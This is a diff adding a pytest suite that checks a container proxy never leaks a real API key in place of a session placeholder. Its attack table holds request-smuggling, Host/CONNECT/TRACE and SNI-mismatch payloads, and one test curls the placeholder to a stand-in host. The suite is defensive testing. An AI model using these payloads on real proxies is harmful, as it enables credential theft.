@@ -1,0 +1,231 @@
+"""What root in a container tries with the placeholders of its session, on a real Incus: no secret comes of it."""
+
+from __future__ import annotations
+
+import base64
+import json
+import os
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from typing import Any, NamedTuple
+
+import pytest
+from login_box import ADDRESS, SEARCH, Box, Vendor, vendor_context, write_certificates
+from network_box import command_with_hosts
+
+from tests.programs import DEADLINE, NO_CHECKPOINTS, Server, wait_until
+
+pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a file of host names of the test's own needs root")
+KEY = "sk-ant-api03-the-real-key-Zq8vX2"
+API, OTHER = "api.anthropic.com", "other.example"  # two names of one address
+CONFIG = f"""[network]
+reachable = ["{ADDRESS}/32"]
+[defaults]
+logins = ["anthropic"]
+[logins.anthropic]
+from = {{ env = "REAL_KEY" }}
+"""
+
+
+class Raw(BaseHTTPRequestHandler):
+    """Notes all bytes that come, and answers each connection once."""
+
+    server: Any
+
+    def handle(self) -> None:
+        data = b""
+        self.connection.settimeout(2.0)
+        try:
+            while piece := self.connection.recv(65536):
+                data += piece
+                if b"\r\n\r\n" in data:
+                    break
+            body = json.dumps(data.decode("latin-1")).encode()
+            head = f"HTTP/1.1 302 Found\r\nLocation: https://{OTHER}/\r\nContent-Length: {len(body)}\r\n\r\n"
+            self.server.came.append(data)
+            self.connection.sendall(head.encode() + body)
+            while piece := self.connection.recv(65536):
+                self.server.came.append(piece)
+        except OSError:
+            pass
+
+
+@pytest.fixture(scope="module")
+def vendor(tmp_path_factory) -> Iterator[Any]:
+    folder = Path(tmp_path_factory.mktemp("vendors"))
+    write_certificates(folder, (API, OTHER), ADDRESS)
+    made: Any = Vendor(vendor_context(folder), ADDRESS, Raw)
+    made.came, made.folder = [], folder
+    yield made
+    made.close()
+
+
+@pytest.fixture(scope="module")
+def server(start_shared, vendor) -> Server:
+    started: Server = start_shared(
+        config=NO_CHECKPOINTS + CONFIG,
+        command=command_with_hosts(vendor.folder / "hosts"),
+        environ={"SSL_CERT_FILE": str(vendor.folder / "trust.pem"), "REAL_KEY": KEY},
+    )
+    return started
+
+
+@pytest.fixture(scope="module")
+def box(bed, server, keep_session, vendor) -> Box:
+    return Box(bed, server, keep_session(server, tool="shell", folder="one")["id"])
+
+
+@pytest.fixture(scope="module")
+def other(bed, server, keep_session, vendor) -> Box:
+    return Box(bed, server, keep_session(server, tool="shell", folder="two")["id"])
+
+
+class Attack(NamedTuple):
+    """What is sent over TLS; `{it}` is the placeholder."""
+
+    text: str
+    answer: str  # what the program reads
+    alarm: str = ""  # where the placeholder was
+    connect: str = API
+    name: str = API  # in the ClientHello
+
+
+def request(*lines: str, first: str = "GET / HTTP/1.1", host: str = API, body: str = "") -> str:
+    return "\r\n".join([first, f"Host: {host}", *lines, "", body])
+
+
+FIELD = "X-Api-Key: {it}"
+ATTACKS = {
+    "query": Attack(request(first="GET /?key={it} HTTP/1.1"), "in the address", "in the address"),
+    "path": Attack(request(first="GET /a/{it}/b HTTP/1.1"), "in the address", "in the address"),
+    "another header": Attack(request("Cookie: key={it}"), "in the header cookie", "in the header cookie"),
+    "another form": Attack(request("X-Api-Key: Bearer {it}"), "in the header x-api-key", "in the header x-api-key"),
+    "the name of a header": Attack(request("{it}: x"), "in the header", "in the header {it}"),
+    "twice": Attack(request(FIELD, FIELD), "comes twice"),
+    "Host": Attack(request(FIELD, host=OTHER), f"the Host header must be {API}"),
+    "two Hosts": Attack(request(FIELD, f"Host: {OTHER}"), f"the Host header must be {API}"),
+    "another port": Attack(request(FIELD, host=f"{API}:8443"), f"the Host header must be {API}"),
+    "a whole address": Attack(request(FIELD, first=f"GET https://{OTHER}/ HTTP/1.1"), "must begin with /"),
+    "a tunnel in the tunnel": Attack(
+        request(FIELD, first=f"CONNECT {OTHER}:443 HTTP/1.1"), "the method CONNECT is not passed"
+    ),
+    "TRACE": Attack(request(FIELD, first="TRACE / HTTP/1.1"), "the method TRACE is not passed"),
+    "HTTP/1.0": Attack(request(FIELD, first="GET / HTTP/1.0"), "not well-formed HTTP/1.1"),
+    "HTTP/2": Attack("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "not well-formed HTTP/1.1"),
+    "length and chunks": Attack(
+        request(FIELD, "Content-Length: 5", "Transfer-Encoding: chunked", first="POST / HTTP/1.1", body="0\r\n\r\n"),
+        "either Content-Length or Transfer-Encoding",
+    ),
+    "two lengths": Attack(
+        request(FIELD, "Content-Length: 1", "Content-Length: 2", first="POST / HTTP/1.1", body="xx"),
+        "Content-Length must be one number",
+    ),
+    "a strange coding": Attack(
+        request(FIELD, "Transfer-Encoding: xchunked", first="POST / HTTP/1.1", body="0\r\n\r\n"),
+        "either Content-Length",
+    ),
+    "a folded field": Attack(request("X-A: b\r\n X-Api-Key: {it}"), "not well-formed"),
+    "a blank before the colon": Attack(request("X-Api-Key : {it}"), "not well-formed"),
+    "a bare line feed": Attack(request("X-A: b\nX-Api-Key: {it}"), "not well-formed"),
+    "a trailer": Attack(
+        request(
+            "Transfer-Encoding: chunked",
+            first="POST / HTTP/1.1",
+            body="1\r\nx\r\n0\r\nX-Api-Key: {it}\r\n\r\n",
+        ),
+        "a trailer is not passed",
+    ),
+    "another name in the ClientHello": Attack(request(FIELD), "", connect=API, name=OTHER),
+    "another name in the tunnel": Attack(request(FIELD), "", connect=OTHER, name=API),
+    "an address": Attack(request(FIELD), "", connect=ADDRESS, name=API),
+}
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_an_attack_gets_no_value_anywhere(box, server, vendor, name):
+    attack = ATTACKS[name]
+    it = box.variable("ANTHROPIC_API_KEY")
+    vendor.came.clear()
+    text = attack.text.replace("{it}", it)
+    said = box.exchange(attack.connect, text, server_name=attack.name, connect=attack.connect)
+    assert attack.answer in said
+    assert KEY.encode() not in b"".join(vendor.came)
+    assert KEY not in said
+    if attack.alarm:
+        where = attack.alarm.replace("{it}", it)
+        alarms = server.get(f"/api/sessions/{box.id}/network").json["alarms"]
+        assert {"login": "anthropic", "where": where, "host": API}.items() <= alarms[0].items()
+
+
+def test_what_comes_after_a_request_is_a_request_of_its_own(box, vendor):
+    """Which is read as strictly: nothing is smuggled behind the one that has a value."""
+    it = box.variable("ANTHROPIC_API_KEY")
+    vendor.came.clear()
+    body = request(FIELD.replace("{it}", it), first="GET /smuggled HTTP/1.1", host=OTHER)
+    text = request(f"X-Api-Key: {it}", "Content-Length: 0", first="POST / HTTP/1.1") + body
+    said = box.exchange(API, text)
+    assert f"the Host header must be {API}" in said
+    assert b"smuggled" not in b"".join(vendor.came)
+
+
+def test_a_redirect_is_followed_with_a_placeholder_at_most(box, vendor):
+    """The answer to a request with the value leads to another host: what goes there has none."""
+    it = box.variable("ANTHROPIC_API_KEY")
+    vendor.came.clear()
+    said = box.ask(API, f"X-Api-Key: {it}")
+    assert f"Location: https://{OTHER}/" in said
+    assert KEY.encode() in vendor.came[0]
+    vendor.came.clear()
+    box.shell(f"curl -sk -m 20 -H 'X-Api-Key: {it}' https://{OTHER}/ || true")
+    assert KEY.encode() not in b"".join(vendor.came)
+
+
+def test_an_upgrade_to_anything_but_a_websocket_is_left_out(box, vendor):
+    it = box.variable("ANTHROPIC_API_KEY")
+    vendor.came.clear()
+    box.ask(API, f"X-Api-Key: {it}", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABk")
+    assert b"h2c" not in vendor.came[0]
+    assert b"HTTP2-Settings" not in vendor.came[0]
+
+
+def test_a_placeholder_in_a_body_stays_one_and_is_told(box, server, vendor):
+    it = box.variable("ANTHROPIC_API_KEY")
+    vendor.came.clear()
+    box.exchange(API, request(f"X-Api-Key: {it}", f"Content-Length: {len(it)}", first="POST / HTTP/1.1", body=it))
+    wait_until(lambda: it.encode() in b"".join(vendor.came), "the body")
+    alarms = server.get(f"/api/sessions/{box.id}/network").json["alarms"]
+    assert alarms[0]["where"] == "in the body"
+
+
+def test_the_placeholder_of_another_session_is_refused_and_told(box, other, server, vendor):
+    stolen = other.variable("ANTHROPIC_API_KEY")
+    vendor.came.clear()
+    assert "that of another session" in box.ask(API, f"X-Api-Key: {stolen}")
+    assert "that of another session" in box.ask(API, "A: " + base64.b64encode(stolen.encode()).decode())
+    assert vendor.came == []
+    assert "that of another session" in server.get(f"/api/sessions/{box.id}/network").json["alarms"][0]["where"]
+    assert server.get(f"/api/sessions/{other.id}/network").json["alarms"] == []
+
+
+def test_an_alarm_is_on_the_page_and_in_the_journal(box, server):
+    session = server.get(f"/api/sessions/{box.id}").json
+    (words,) = [one for one in session["warnings"] if "placeholder" in one]
+    assert "the placeholder of the login anthropic was" in words
+    assert "the placeholder of the login anthropic was" in server.log()
+
+    def told() -> bool:
+        entries = server.get(f"/api/sessions/{box.id}/log").json
+        return any(entry["what"].startswith("Alarm: the placeholder") for entry in entries)
+
+    wait_until(told, "the journal")
+
+
+def test_root_has_no_way_to_the_server_but_the_proxy(box):
+    """The socket of this host, the keys and the other session are not there; what is there is a placeholder's proxy."""
+    assert box.shell("find / -xdev -type s -name '*.sock' -path '*clincus*' 2>/dev/null", 0) == ""
+    assert box.shell("ls /run/user/*/clincus-logins* /dev/shm/clincus-logins* 2>/dev/null || true", 0) == ""
+    for secret in (KEY, "BEGIN PRIVATE KEY"):
+        done = box.bed.incus.exec(box.id, ["perl", "-e", SEARCH, secret[::-1].encode().hex()], user=0, timeout=DEADLINE)
+        found = [one for one in done.stdout.decode().splitlines() if "/usr/" not in one and "/etc/ssl/pr" not in one]
+        assert found == ["searched"], secret
